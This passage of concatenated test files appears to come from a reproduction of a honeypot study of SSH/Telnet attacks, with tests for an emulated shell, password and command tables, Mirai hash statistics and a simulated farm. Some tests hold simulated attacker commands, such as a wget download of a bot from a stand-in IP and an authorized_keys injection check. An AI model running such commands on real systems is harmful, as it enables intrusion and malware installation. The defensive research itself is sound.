    return EmulatedShell(ShellContext(fs=FakeFilesystem()))


class TestSubstitution:
    def test_simple_substitution(self, shell):
        result = shell.execute("echo $(uname -m)")
        assert result.commands[0].output == "armv7l"

    def test_recorded_text_is_original(self, shell):
        # The honeypot records what the client typed, not the expansion.
        result = shell.execute("echo $(uname -m)")
        assert result.commands[0].text == "echo $(uname -m)"

    def test_nested_substitution(self, shell):
        result = shell.execute("echo $(echo $(uname))")
        assert result.commands[0].output == "Linux"

    def test_table3_idiom(self, shell):
        # `ls -lh $(which ls)` appears in the paper's top-command list.
        result = shell.execute("ls -lh $(which ls)")
        assert "ls" in result.commands[0].output
        assert "No such file" not in result.commands[0].output

    def test_substitution_with_redirect(self, shell):
        shell.execute("echo $(uname -m) > /tmp/arch")
        assert shell.context.fs.read("/tmp/arch") == b"armv7l\n"

    def test_unknown_inner_command(self, shell):
        result = shell.execute("echo $(frobnicate)")
        # The inner failure text becomes the substitution value; no crash.
        assert "frobnicate" in result.commands[0].output

    def test_unbalanced_dollar_paren(self, shell):
        result = shell.execute("echo $(uname")
        assert result.commands  # recorded without crashing

    def test_side_effects_apply(self, shell):
        shell.execute("echo x > /tmp/seed")
        result = shell.execute("echo $(cat /tmp/seed)")
        assert result.commands[0].output == "x"

    def test_multiple_substitutions(self, shell):
        result = shell.execute("echo $(uname) $(nproc)")
        assert result.commands[0].output == "Linux 1"
