"""Tests for the table builders (Tables 1-6)."""

import pytest

from repro.core.tables import (
    failed_usernames,
    format_table,
    table1_categories,
    table2_passwords,
    table3_commands,
    tables_4_5_6,
)


class TestTable1:
    def test_shares_sum_to_one(self, small_store):
        t1 = table1_categories(small_store)
        assert sum(t1.overall.values()) == pytest.approx(1.0)
        assert t1.protocol_totals["ssh"] + t1.protocol_totals["telnet"] == pytest.approx(1.0)

    def test_matches_paper_shape(self, small_store):
        t1 = table1_categories(small_store)
        # FAIL_LOG is the largest category; CMD_URI the smallest.
        assert max(t1.overall, key=t1.overall.get) == "FAIL_LOG"
        assert min(t1.overall, key=t1.overall.get) == "CMD_URI"

    def test_protocol_splits(self, small_store):
        t1 = table1_categories(small_store)
        # FAIL_LOG is SSH-dominated; NO_CRED is Telnet-dominated.
        assert t1.ssh_share_of_category["FAIL_LOG"] > 0.95
        assert t1.ssh_share_of_category["NO_CRED"] < 0.4


class TestTable2:
    def test_top_passwords(self, small_store):
        rows = table2_passwords(small_store)
        assert rows
        passwords = [p for p, _ in rows]
        # "admin" and "1234" lead the ranking (paper Table 2).
        assert "admin" in passwords[:3]
        assert "1234" in passwords[:5]

    def test_counts_descending(self, small_store):
        rows = table2_passwords(small_store, k=10)
        counts = [c for _, c in rows]
        assert counts == sorted(counts, reverse=True)

    def test_rejected_password_absent(self, small_store):
        # "root" can never appear as a *successful* password.
        assert all(p != "root" for p, _ in table2_passwords(small_store, 50))

    def test_mirai_family_password_visible(self, small_store):
        # The pinned Mirai family logs in with root/1234 everywhere.
        passwords = dict(table2_passwords(small_store, 10))
        assert "1234" in passwords


class TestFailedUsernames:
    def test_non_root_usernames_lead(self, small_store):
        rows = failed_usernames(small_store, 10)
        names = [u for u, _ in rows]
        assert set(names[:6]) & {"nproc", "admin", "user", "root"}


class TestTable3:
    def test_popular_commands(self, small_store):
        rows = table3_commands(small_store, 25)
        commands = [c for c, _ in rows]
        # Information-gathering commands dominate (paper Table 3).
        assert any("uname" in c for c in commands)
        assert any("free" in c or "cat /proc/cpuinfo" in c for c in commands)

    def test_key_inject_among_top(self, small_store):
        rows = table3_commands(small_store, 25)
        assert any("authorized_keys" in c for c, _ in rows)

    def test_counts_descending(self, small_store):
        counts = [n for _, n in table3_commands(small_store, 20)]
        assert counts == sorted(counts, reverse=True)


class TestTables456:
    def test_all_three_present(self, small_dataset):
        tables = tables_4_5_6(small_dataset.store, small_dataset.intel)
        assert set(tables) == {"by_sessions", "by_clients", "by_days"}
        for rows in tables.values():
            assert len(rows) >= 10

    def test_h1_leads_everywhere(self, small_dataset):
        labels = {c.primary_hash: c.campaign_id for c in small_dataset.campaigns}
        tables = tables_4_5_6(small_dataset.store, small_dataset.intel, labels)
        assert tables["by_sessions"][0].hash_label == "H1"
        assert tables["by_clients"][0].hash_label == "H1"
        assert tables["by_days"][0].hash_label == "H1"
        assert tables["by_sessions"][0].tag == "trojan"

    def test_sorted_correctly(self, small_dataset):
        tables = tables_4_5_6(small_dataset.store, small_dataset.intel)
        sessions = [r.n_sessions for r in tables["by_sessions"]]
        assert sessions == sorted(sessions, reverse=True)
        days = [r.n_days for r in tables["by_days"]]
        assert days == sorted(days, reverse=True)

    def test_mirai_present_in_hash_tables(self, small_dataset):
        # Mirai variants populate the paper's hash tables. At the tiny test
        # scale the CMD+URI session budget truncates mirai *days*, so we
        # check the client-sorted table (client counts survive scaling).
        tables = tables_4_5_6(small_dataset.store, small_dataset.intel, k=40)
        tags = {r.tag for rows in tables.values() for r in rows}
        assert "mirai" in tags


class TestFormatTable:
    def test_renders(self):
        text = format_table([("a", 1), ("bb", 22)], ["name", "n"])
        lines = text.splitlines()
        assert lines[0].startswith("name")
        assert len(lines) == 4

    def test_empty(self):
        text = format_table([], ["x"])
        assert "x" in text
