"""Tests for the live farm driver."""

import numpy as np
import pytest

from repro.core.classify import Category, category_shares
from repro.farm.live import (
    IntrusionBehavior,
    LiveFarm,
    ScanBehavior,
    ScoutBehavior,
)
from repro.geo.registry import GeoRegistry, NetworkType
from repro.net.tcp import TELNET_PORT


@pytest.fixture
def farm():
    return LiveFarm(seed=9, n_honeypots=10)


def client_pool(farm, n=20):
    record = farm.registry.register_as("BR", NetworkType.RESIDENTIAL)
    pool = record.pool()
    return [pool.sample(farm.rng) for _ in range(n)]


class TestLiveFarm:
    def test_scan_produces_no_cred(self, farm):
        ips = client_pool(farm, 3)
        for i, ip in enumerate(ips):
            farm.launch(ip, i, ScanBehavior(), at=1.0 + i)
        farm.run(until=500.0)
        store = farm.harvest()
        assert len(store) == 3
        shares = category_shares(store)
        assert shares[Category.NO_CRED] == 1.0

    def test_scan_telnet_port(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, ScanBehavior(port=TELNET_PORT), at=1.0)
        farm.run(until=500.0)
        store = farm.harvest()
        assert store.record(0).protocol == "telnet"

    def test_scout_produces_fail_log(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, ScoutBehavior(attempts=2), at=1.0)
        farm.run(until=500.0)
        store = farm.harvest()
        record = store.record(0)
        assert record.n_login_attempts == 2
        assert not record.login_success

    def test_intrusion_produces_cmd_uri(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, IntrusionBehavior(
            lines=["uname -a", "wget http://198.51.100.3/bot"],
        ), at=1.0)
        farm.run(until=2000.0)
        store = farm.harvest()
        record = store.record(0)
        assert record.login_success
        assert record.uris == ("http://198.51.100.3/bot",)
        assert record.file_hashes

    def test_fixed_password(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, IntrusionBehavior(
            lines=["uname"], password="1234", failures_before_success=0,
        ), at=1.0)
        farm.run(until=2000.0)
        store = farm.harvest()
        assert store.record(0).password == "1234"

    def test_geo_stamping(self, farm):
        ip = client_pool(farm, 1)[0]
        farm.launch(ip, 0, ScanBehavior(), at=1.0)
        farm.run(until=500.0)
        store = farm.harvest()
        assert store.record(0).client_country == "BR"

    def test_mixed_population(self, farm):
        ips = client_pool(farm, 9)
        behaviors = [ScanBehavior(), ScoutBehavior(),
                     IntrusionBehavior(lines=["uname -a"])]
        for i, ip in enumerate(ips):
            farm.launch(ip, i, behaviors[i % 3], at=1.0 + 5 * i)
        farm.run(until=5000.0)
        store = farm.harvest()
        assert len(store) == 9
        shares = category_shares(store)
        assert shares[Category.NO_CRED] > 0
        assert shares[Category.FAIL_LOG] > 0
        assert shares[Category.CMD] > 0

    def test_unknown_behavior_rejected(self, farm):
        with pytest.raises(TypeError):
            farm.launch(1, 0, object(), at=1.0)

    def test_harvest_times_out_stragglers(self, farm):
        ip = client_pool(farm, 1)[0]

        # A scan whose disconnect never fires (we stop the engine early).
        farm.launch(ip, 0, ScanBehavior(linger=(500.0, 600.0)), at=1.0)
        farm.run(until=5.0)
        store = farm.harvest()
        assert len(store) == 1
        assert store.record(0).close_reason == "auth-timeout"
