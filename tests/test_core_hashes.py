"""Tests for hash/campaign analyses (Figures 18-22, Tables 4-6)."""

import numpy as np
import pytest

from repro.core.hashes import (
    HashOccurrences,
    campaign_length_ecdfs,
    clients_per_hash_curve,
    compute_hash_stats,
    hashes_per_client,
    hashes_per_honeypot,
    pot_coverage_summary,
    top_hash_table,
)
from repro.intel.database import IntelDatabase
from repro.intel.tags import ThreatTag
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder

H_A = "a" * 64
H_B = "b" * 64


def hash_store():
    """Hash A: 3 sessions, 2 clients, 2 pots, 2 days. Hash B: 1 session."""
    builder = StoreBuilder()
    rows = [
        dict(client_ip=1, honeypot_id="p0", start_time=0.0, file_hashes=(H_A,)),
        dict(client_ip=1, honeypot_id="p1", start_time=86_400.0, file_hashes=(H_A,)),
        dict(client_ip=2, honeypot_id="p0", start_time=100.0, file_hashes=(H_A, H_A)),
        dict(client_ip=2, honeypot_id="p0", start_time=200.0, file_hashes=(H_B,)),
        dict(client_ip=3, honeypot_id="p1", start_time=300.0, file_hashes=()),
    ]
    for row in rows:
        base = dict(duration=1.0, protocol="ssh", client_asn=1,
                    client_country="US", n_login_attempts=1,
                    login_success=True, commands=("x",))
        base.update(row)
        builder.append(SessionRecord(**base))
    return builder.build()


class TestOccurrences:
    def test_build_dedupes_within_session(self):
        occ = HashOccurrences.build(hash_store())
        # 4 (session, hash) pairs: the duplicate H_A within one session
        # collapses to one occurrence.
        assert len(occ) == 4
        assert occ.n_hashes == 2

    def test_empty_store(self):
        occ = HashOccurrences.build(StoreBuilder().build())
        assert len(occ) == 0


class TestStats:
    @pytest.fixture
    def stats(self):
        store = hash_store()
        return compute_hash_stats(HashOccurrences.build(store)), store

    def test_sessions(self, stats):
        s, store = stats
        a = store.hashes.id_of(H_A)
        b = store.hashes.id_of(H_B)
        assert s.sessions[a] == 3
        assert s.sessions[b] == 1

    def test_clients(self, stats):
        s, store = stats
        assert s.clients[store.hashes.id_of(H_A)] == 2
        assert s.clients[store.hashes.id_of(H_B)] == 1

    def test_days(self, stats):
        s, store = stats
        assert s.days[store.hashes.id_of(H_A)] == 2

    def test_honeypots(self, stats):
        s, store = stats
        assert s.honeypots[store.hashes.id_of(H_A)] == 2
        assert s.honeypots[store.hashes.id_of(H_B)] == 1

    def test_first_last_day(self, stats):
        s, store = stats
        a = store.hashes.id_of(H_A)
        assert s.first_day[a] == 0
        assert s.last_day[a] == 1

    def test_top_by(self, stats):
        s, store = stats
        top = s.top_by("sessions", 1)
        assert store.hashes.value_of(int(top[0])) == H_A


class TestPerPotPerClient:
    def test_hashes_per_honeypot(self):
        store = hash_store()
        occ = HashOccurrences.build(store)
        per_pot = hashes_per_honeypot(occ)
        # p0 saw A and B; p1 saw A only.
        assert sorted(per_pot.tolist()) == [1, 2]

    def test_hashes_per_client(self):
        occ = HashOccurrences.build(hash_store())
        curve = hashes_per_client(occ)
        # client 2 -> 2 hashes; client 1 -> 1 hash.
        assert curve.tolist() == [2, 1]

    def test_clients_per_hash_curve(self):
        store = hash_store()
        stats = compute_hash_stats(HashOccurrences.build(store))
        assert clients_per_hash_curve(stats).tolist() == [2, 1]


class TestCoverage:
    def test_summary(self):
        store = hash_store()
        occ = HashOccurrences.build(store)
        stats = compute_hash_stats(occ)
        summary = pot_coverage_summary(occ, stats)
        assert summary["n_hashes"] == 2
        assert summary["share_single_pot"] == 0.5
        assert summary["top_pot_hash_share"] == 1.0  # p0 saw both hashes

    def test_empty(self):
        occ = HashOccurrences.build(StoreBuilder().build())
        stats = compute_hash_stats(occ)
        assert pot_coverage_summary(occ, stats)["n_hashes"] == 0


class TestTables:
    def test_top_hash_table(self):
        store = hash_store()
        intel = IntelDatabase()
        intel.register(H_A, ThreatTag.MIRAI)
        occ = HashOccurrences.build(store)
        stats = compute_hash_stats(occ)
        rows = top_hash_table(stats, store, intel, "sessions", k=5,
                              labels={H_A: "H1"})
        assert rows[0].hash_label == "H1"
        assert rows[0].n_sessions == 3
        assert rows[0].tag == "mirai"
        assert rows[1].tag == "unknown"

    def test_table_skips_unobserved(self):
        store = hash_store()
        intel = IntelDatabase()
        occ = HashOccurrences.build(store)
        stats = compute_hash_stats(occ)
        rows = top_hash_table(stats, store, intel, "sessions", k=50)
        assert len(rows) == 2


class TestCampaignLengths:
    def test_ecdfs_by_tag(self):
        store = hash_store()
        intel = IntelDatabase()
        intel.register(H_A, ThreatTag.MIRAI)
        intel.register(H_B, ThreatTag.TROJAN)
        stats = compute_hash_stats(HashOccurrences.build(store))
        ecdfs = campaign_length_ecdfs(stats, store, intel)
        assert ecdfs["ALL"].n == 2
        assert ecdfs["mirai"].n == 1
        assert ecdfs["mirai"].median == 2
        assert ecdfs["trojan"].median == 1


class TestPaperShape:
    @pytest.fixture(scope="class")
    def generated(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        return small_dataset, occ, compute_hash_stats(occ)

    def test_h1_tops_all_three_tables(self, generated):
        ds, occ, stats = generated
        h1_hash = ds.campaign("H1").primary_hash
        h1_id = ds.store.hashes.id_of(h1_hash)
        assert stats.top_by("sessions", 1)[0] == h1_id
        assert stats.top_by("clients", 1)[0] == h1_id
        assert stats.top_by("days", 1)[0] == h1_id

    def test_majority_single_pot(self, generated):
        _, occ, stats = generated
        summary = pot_coverage_summary(occ, stats)
        assert summary["share_single_pot"] > 0.5

    def test_top_pot_sees_small_fraction(self, generated):
        _, occ, stats = generated
        summary = pot_coverage_summary(occ, stats)
        assert summary["top_pot_hash_share"] < 0.12

    def test_long_tail_clients_per_hash(self, generated):
        _, _, stats = generated
        curve = clients_per_hash_curve(stats)
        assert curve[0] > 10 * np.median(curve)

    def test_most_hashes_single_day(self, generated):
        ds, _, stats = generated
        observed = stats.days[stats.sessions > 0]
        assert (observed == 1).mean() > 0.4
