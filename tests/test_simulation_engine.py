"""Tests for the discrete-event engine."""

import pytest

from repro.simulation.engine import EventQueue, SimulationEngine


class TestEventQueue:
    def test_pop_in_time_order(self):
        q = EventQueue()
        order = []
        q.push(3.0, lambda: order.append("c"))
        q.push(1.0, lambda: order.append("a"))
        q.push(2.0, lambda: order.append("b"))
        while (event := q.pop()) is not None:
            event.action()
        assert order == ["a", "b", "c"]

    def test_fifo_for_simultaneous(self):
        q = EventQueue()
        order = []
        q.push(1.0, lambda: order.append("first"))
        q.push(1.0, lambda: order.append("second"))
        q.pop().action()
        q.pop().action()
        assert order == ["first", "second"]

    def test_cancelled_events_skipped(self):
        q = EventQueue()
        event = q.push(1.0, lambda: None)
        event.cancel()
        assert q.pop() is None

    def test_len_excludes_cancelled(self):
        q = EventQueue()
        e1 = q.push(1.0, lambda: None)
        q.push(2.0, lambda: None)
        e1.cancel()
        assert len(q) == 1

    def test_peek_time(self):
        q = EventQueue()
        q.push(5.0, lambda: None)
        assert q.peek_time() == 5.0

    def test_peek_skips_cancelled(self):
        q = EventQueue()
        e = q.push(1.0, lambda: None)
        q.push(2.0, lambda: None)
        e.cancel()
        assert q.peek_time() == 2.0

    def test_bool_empty(self):
        assert not EventQueue()


class TestSimulationEngine:
    def test_clock_advances_to_event_time(self):
        engine = SimulationEngine()
        engine.schedule(10.0, lambda: None)
        engine.run()
        assert engine.clock.seconds == 10.0

    def test_schedule_negative_rejected(self):
        with pytest.raises(ValueError):
            SimulationEngine().schedule(-1.0, lambda: None)

    def test_schedule_at_past_rejected(self):
        engine = SimulationEngine()
        engine.clock.advance(10.0)
        with pytest.raises(ValueError):
            engine.schedule_at(5.0, lambda: None)

    def test_run_until(self):
        engine = SimulationEngine()
        fired = []
        engine.schedule(1.0, lambda: fired.append(1))
        engine.schedule(100.0, lambda: fired.append(2))
        engine.run(until=50.0)
        assert fired == [1]
        assert engine.clock.seconds == 50.0

    def test_run_max_events(self):
        engine = SimulationEngine()
        for i in range(10):
            engine.schedule(float(i + 1), lambda: None)
        processed = engine.run(max_events=3)
        assert processed == 3

    def test_events_can_schedule_events(self):
        engine = SimulationEngine()
        results = []

        def chain(n):
            results.append(n)
            if n < 3:
                engine.schedule(1.0, lambda: chain(n + 1))

        engine.schedule(1.0, lambda: chain(1))
        engine.run()
        assert results == [1, 2, 3]
        assert engine.clock.seconds == 3.0

    def test_events_processed_counter(self):
        engine = SimulationEngine()
        engine.schedule(1.0, lambda: None)
        engine.schedule(2.0, lambda: None)
        engine.run()
        assert engine.events_processed == 2

    def test_step_returns_false_when_empty(self):
        assert SimulationEngine().step() is False
