"""Tests for the stable public surface (repro.api) and its shims."""

import dataclasses
import warnings

import pytest

import repro
from repro.api import GENERATE_BACKENDS, RunOptions, WORKERS_ENV_VAR
from repro.workload.config import ScenarioConfig

CONFIG = ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)


class TestRunOptions:
    def test_frozen(self):
        options = RunOptions()
        with pytest.raises(dataclasses.FrozenInstanceError):
            options.backend = "queue"

    def test_defaults(self):
        options = RunOptions()
        assert options.backend == "pool"
        assert options.workers is None
        assert options.cache is None

    def test_rejects_unknown_backend(self):
        with pytest.raises(ValueError, match="unknown backend"):
            RunOptions(backend="carrier-pigeon")

    def test_rejects_nonpositive_workers(self):
        with pytest.raises(ValueError, match="workers"):
            RunOptions(workers=0)

    def test_resolved_workers_explicit_wins(self, monkeypatch):
        monkeypatch.setenv(WORKERS_ENV_VAR, "8")
        assert RunOptions(workers=3).resolved_workers() == 3

    def test_resolved_workers_env_fallback(self, monkeypatch):
        monkeypatch.setenv(WORKERS_ENV_VAR, "5")
        assert RunOptions().resolved_workers() == 5
        monkeypatch.delenv(WORKERS_ENV_VAR)
        assert RunOptions().resolved_workers() == 1

    def test_derivable_with_replace(self):
        base = RunOptions()
        variant = dataclasses.replace(base, backend="queue", workers=2)
        assert (variant.backend, variant.workers) == ("queue", 2)
        assert base.backend == "pool"


class TestGenerate:
    @pytest.fixture(scope="class")
    def inline_dataset(self):
        return repro.generate(CONFIG, backend="inline")

    def test_matches_sharded_pipeline(self, inline_dataset):
        from repro.workload.shards import generate_sharded

        expected = generate_sharded(CONFIG, workers=1)
        assert inline_dataset.store.content_digest() == \
            expected.store.content_digest()

    def test_serial_backend_matches_legacy_serial(self):
        from repro.workload.generator import TraceGenerator

        serial = repro.generate(CONFIG, backend="serial")
        legacy = TraceGenerator(CONFIG).run()
        assert serial.store.content_digest() == \
            legacy.store.content_digest()

    def test_options_value_routes_the_run(self, inline_dataset):
        dataset = repro.generate(
            CONFIG, options=RunOptions(backend="inline", workers=1)
        )
        assert dataset.store.content_digest() == \
            inline_dataset.store.content_digest()

    def test_options_and_keywords_conflict(self):
        with pytest.raises(TypeError, match="not both"):
            repro.generate(CONFIG, workers=2,
                           options=RunOptions(backend="inline"))

    def test_cache_shared_across_sharded_backends(self, tmp_path,
                                                  inline_dataset):
        from repro.obs import use_metrics

        with use_metrics() as cold:
            repro.generate(CONFIG, backend="inline", cache=tmp_path)
        # A different sharded backend hits the same entry: the bytes are
        # identical, so the family — not the backend — keys the cache.
        with use_metrics() as warm:
            hit = repro.generate(CONFIG, backend="pool", workers=2,
                                 cache=tmp_path)
        assert cold.counter("cache.misses") == 1
        assert warm.counter("cache.hits") == 1
        assert hit.store.content_digest() == \
            inline_dataset.store.content_digest()

    def test_serial_and_sharded_cache_separately(self, tmp_path):
        repro.generate(CONFIG, backend="serial", cache=tmp_path)
        from repro.obs import use_metrics

        with use_metrics() as metrics:
            repro.generate(CONFIG, backend="inline", cache=tmp_path)
        assert metrics.counter("cache.misses") == 1


class TestReportAndLoad:
    def test_report_renders_summary(self):
        dataset = repro.generate(CONFIG, backend="inline")
        text = repro.report(dataset)
        assert isinstance(text, str) and len(dataset.store) > 0
        assert "sessions" in text.lower()

    def test_load_npz_roundtrip(self, tmp_path):
        from repro.store.npz import save_npz

        dataset = repro.generate(CONFIG, backend="inline")
        path = tmp_path / "trace.npz"
        save_npz(dataset.store, path)
        loaded = repro.load(path, CONFIG)
        assert loaded.store.content_digest() == \
            dataset.store.content_digest()
        assert loaded.config == CONFIG

    def test_load_dataset_directory(self, tmp_path):
        from repro.workload.io import save_dataset

        dataset = repro.generate(CONFIG, backend="inline")
        save_dataset(dataset, tmp_path / "bundle")
        loaded = repro.load(tmp_path / "bundle")
        assert loaded.store.content_digest() == \
            dataset.store.content_digest()

    def test_load_rejects_unknown_format(self, tmp_path):
        bogus = tmp_path / "trace.parquet"
        bogus.write_text("nope")
        with pytest.raises(ValueError, match="neither"):
            repro.load(bogus)


class TestDeprecationShims:
    def test_generate_dataset_warns_and_matches(self):
        with pytest.deprecated_call(match="repro.generate"):
            shimmed = repro.generate_dataset(CONFIG, workers=1)
        direct = repro.generate(CONFIG, backend="inline")
        assert shimmed.store.content_digest() == \
            direct.store.content_digest()

    def test_generate_dataset_serial_path_warns(self):
        with pytest.deprecated_call():
            shimmed = repro.generate_dataset(CONFIG)
        serial = repro.generate(CONFIG, backend="serial")
        assert shimmed.store.content_digest() == \
            serial.store.content_digest()

    def test_facade_emits_no_deprecation_warnings(self):
        with warnings.catch_warnings():
            warnings.simplefilter("error", DeprecationWarning)
            repro.generate(CONFIG, backend="inline")


class TestPublicSurface:
    def test_all_names_exist(self):
        for name in repro.__all__:
            assert hasattr(repro, name), name

    def test_facade_is_exported(self):
        for name in ("generate", "report", "load", "RunOptions",
                     "GENERATE_BACKENDS", "generate_dataset"):
            assert name in repro.__all__

    def test_backend_spellings_cover_sched(self):
        from repro.sched import BACKEND_NAMES

        assert set(BACKEND_NAMES) < set(GENERATE_BACKENDS)
        assert "serial" in GENERATE_BACKENDS
