"""Chunked-builder equivalence and CSR hash-column properties.

The chunked :class:`StoreBuilder` must be a pure refactor of the old
row-wise builder: whatever mix of scalar appends and block appends
produces the rows, the frozen store — and its saved .npz bytes — depend
only on the row contents and order.
"""

from __future__ import annotations

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import repro.store.store as store_module
from repro.store.npz import save_npz
from repro.store.store import HashIdColumn, StoreBuilder


def _rows(n: int, seed: int = 5):
    """Deterministic synthetic row data covering every column."""
    rng = np.random.default_rng(seed)
    hash_ids = []
    for i in range(n):
        k = int(rng.integers(0, 4))
        hash_ids.append(tuple(int(h) for h in rng.integers(0, 50, size=k)))
    return dict(
        start_time=rng.random(n) * 1e6,
        duration=rng.random(n).astype(np.float32) * 300,
        honeypot_id=rng.integers(0, 221, n),
        protocol=rng.integers(0, 2, n),
        client_ip=rng.integers(0, 2**32, n, dtype=np.uint32),
        client_asn=rng.integers(0, 65_000, n),
        client_country_id=rng.integers(0, 55, n),
        n_attempts=rng.integers(0, 11, n),
        login_success=rng.random(n) < 0.5,
        script_id=rng.integers(-1, 3, n),
        password_id=rng.integers(-1, 40, n),
        username_id=rng.integers(-1, 20, n),
        hash_ids=hash_ids,
        close_reason_id=rng.integers(0, 5, n),
        version_id=rng.integers(-1, 6, n),
    )


def _new_builder() -> StoreBuilder:
    """A builder with every id in :func:`_rows` backed by a table entry
    (the invariant real callers maintain; adopt/merge remaps rely on it)."""
    builder = StoreBuilder()
    builder.intern_script(["uname -a", "free"], [])
    builder.intern_script(["wget http://x/a"], ["http://x/a"])
    builder.intern_script(["echo hi > f"], [])
    for i in range(221):
        builder.honeypots.intern(f"hp-{i:03d}")
    for i in range(55):
        builder.countries.intern(f"C{i:02d}")
    for i in range(40):
        builder.passwords.intern(f"pw{i}")
    for i in range(20):
        builder.usernames.intern(f"user{i}")
    for i in range(50):
        builder.hashes.intern(f"{i:064x}")
    for i in range(6):
        builder.versions.intern(f"SSH-2.0-v{i}")
    return builder


def _append_scalar(builder: StoreBuilder, rows: dict, lo: int, hi: int) -> None:
    for i in range(lo, hi):
        builder.append_interned(
            start_time=float(rows["start_time"][i]),
            duration=float(rows["duration"][i]),
            honeypot_id=int(rows["honeypot_id"][i]),
            protocol=int(rows["protocol"][i]),
            client_ip=int(rows["client_ip"][i]),
            client_asn=int(rows["client_asn"][i]),
            client_country_id=int(rows["client_country_id"][i]),
            n_attempts=int(rows["n_attempts"][i]),
            login_success=bool(rows["login_success"][i]),
            script_id=int(rows["script_id"][i]),
            password_id=int(rows["password_id"][i]),
            username_id=int(rows["username_id"][i]),
            hash_ids=rows["hash_ids"][i],
            close_reason_id=int(rows["close_reason_id"][i]),
            version_id=int(rows["version_id"][i]),
        )


def _append_block(builder: StoreBuilder, rows: dict, lo: int, hi: int) -> None:
    builder.append_block(
        start_time=rows["start_time"][lo:hi],
        duration=rows["duration"][lo:hi],
        honeypot_id=rows["honeypot_id"][lo:hi],
        protocol=rows["protocol"][lo:hi],
        client_ip=rows["client_ip"][lo:hi],
        client_asn=rows["client_asn"][lo:hi],
        client_country_id=rows["client_country_id"][lo:hi],
        n_attempts=rows["n_attempts"][lo:hi],
        login_success=rows["login_success"][lo:hi],
        script_id=rows["script_id"][lo:hi],
        password_id=rows["password_id"][lo:hi],
        username_id=rows["username_id"][lo:hi],
        hash_ids=rows["hash_ids"][lo:hi],
        close_reason_id=rows["close_reason_id"][lo:hi],
        version_id=rows["version_id"][lo:hi],
    )


def _npz_bytes(store, tmp_path, name: str) -> bytes:
    path = tmp_path / name
    save_npz(store, path)
    return path.read_bytes()


class TestAppendPathEquivalence:
    N = 500

    def test_block_matches_scalar_byte_identical(self, tmp_path):
        rows = _rows(self.N)
        scalar = _new_builder()
        _append_scalar(scalar, rows, 0, self.N)
        block = _new_builder()
        for lo in range(0, self.N, 97):  # uneven block sizes
            _append_block(block, rows, lo, min(lo + 97, self.N))
        a = _npz_bytes(scalar.build(), tmp_path, "scalar.npz")
        b = _npz_bytes(block.build(), tmp_path, "block.npz")
        assert a == b

    def test_interleaved_paths_byte_identical(self, tmp_path):
        rows = _rows(self.N, seed=11)
        reference = _new_builder()
        _append_scalar(reference, rows, 0, self.N)
        mixed = _new_builder()
        cuts = [0, 3, 120, 121, 250, 333, self.N]
        for j, (lo, hi) in enumerate(zip(cuts, cuts[1:])):
            if j % 2:
                _append_scalar(mixed, rows, lo, hi)
            else:
                _append_block(mixed, rows, lo, hi)
        a = _npz_bytes(reference.build(), tmp_path, "ref.npz")
        b = _npz_bytes(mixed.build(), tmp_path, "mixed.npz")
        assert a == b

    def test_tiny_chunks_cross_boundaries(self, tmp_path, monkeypatch):
        """Shrunken chunk constants force every seal/adopt/spill branch."""
        rows = _rows(120, seed=23)
        reference = _new_builder()
        _append_scalar(reference, rows, 0, 120)
        expected = _npz_bytes(reference.build(), tmp_path, "full.npz")

        monkeypatch.setattr(store_module, "CHUNK_ROWS", 7)
        monkeypatch.setattr(store_module, "ADOPT_ROWS", 4)
        tiny = _new_builder()
        cuts = [0, 1, 8, 15, 15, 40, 47, 120]
        for j, (lo, hi) in enumerate(zip(cuts, cuts[1:])):
            if j % 2:
                _append_scalar(tiny, rows, lo, hi)
            else:
                _append_block(tiny, rows, lo, hi)
        assert _npz_bytes(tiny.build(), tmp_path, "tiny.npz") == expected

    def test_adopted_builder_byte_identical(self, tmp_path):
        """adopt() of a forked shard equals appending the rows directly."""
        rows = _rows(self.N, seed=31)
        reference = _new_builder()
        _append_scalar(reference, rows, 0, self.N)

        trunk = _new_builder()
        _append_block(trunk, rows, 0, 200)
        shard = trunk.fork_tables()
        _append_block(shard, rows, 200, self.N)
        trunk.adopt(shard)

        a = _npz_bytes(reference.build(), tmp_path, "ref.npz")
        b = _npz_bytes(trunk.build(), tmp_path, "adopted.npz")
        assert a == b

    def test_shared_tuple_block(self):
        rows = _rows(64, seed=41)
        shared = (3, 1, 4)
        builder = _new_builder()
        builder.append_block(
            start_time=rows["start_time"],
            duration=rows["duration"],
            honeypot_id=rows["honeypot_id"],
            protocol=rows["protocol"],
            client_ip=rows["client_ip"],
            client_asn=rows["client_asn"],
            client_country_id=rows["client_country_id"],
            n_attempts=rows["n_attempts"],
            login_success=rows["login_success"],
            script_id=rows["script_id"],
            password_id=rows["password_id"],
            username_id=rows["username_id"],
            hash_ids=shared,
            close_reason_id=rows["close_reason_id"],
            version_id=rows["version_id"],
        )
        store = builder.build()
        assert all(store.hash_ids[i] == shared for i in range(64))

    def test_length_mismatch_rejected(self):
        rows = _rows(8)
        builder = _new_builder()
        with pytest.raises(ValueError):
            builder.append_block(
                start_time=rows["start_time"],
                duration=rows["duration"][:4],
                honeypot_id=rows["honeypot_id"],
                protocol=rows["protocol"],
                client_ip=rows["client_ip"],
                client_asn=rows["client_asn"],
                client_country_id=rows["client_country_id"],
                n_attempts=rows["n_attempts"],
                login_success=rows["login_success"],
                script_id=rows["script_id"],
                password_id=rows["password_id"],
                username_id=rows["username_id"],
                hash_ids=None,
                close_reason_id=rows["close_reason_id"],
                version_id=rows["version_id"],
            )


hash_lists = st.lists(
    st.lists(
        st.integers(min_value=0, max_value=1_000), min_size=0, max_size=6
    ).map(tuple),
    min_size=0,
    max_size=40,
)


class TestHashIdColumnProperties:
    @given(lists=hash_lists)
    @settings(max_examples=60, deadline=None)
    def test_roundtrip_matches_lists(self, lists):
        col = HashIdColumn.from_lists(lists)
        assert len(col) == len(lists)
        assert list(col) == lists
        assert [col[i] for i in range(len(col))] == lists
        assert col == lists

    @given(lists=hash_lists, data=st.data())
    @settings(max_examples=60, deadline=None)
    def test_take_matches_python_indexing(self, lists, data):
        col = HashIdColumn.from_lists(lists)
        idx = data.draw(
            st.lists(
                st.integers(min_value=0, max_value=max(len(lists) - 1, 0)),
                max_size=30,
            )
            if lists
            else st.just([])
        )
